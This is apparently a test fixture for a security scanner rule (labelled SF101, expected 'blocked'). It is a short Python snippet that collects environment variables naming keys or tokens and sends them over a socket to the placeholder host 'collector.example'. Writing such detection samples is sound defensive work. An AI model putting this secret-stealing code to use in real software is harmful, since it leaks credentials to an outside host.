# expect: blocked SF101 environment secrets sent through a socket
import json
import os
import socket

secrets = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
with socket.create_connection(("collector.example", 443)) as conn:
    conn.sendall(json.dumps(secrets).encode())
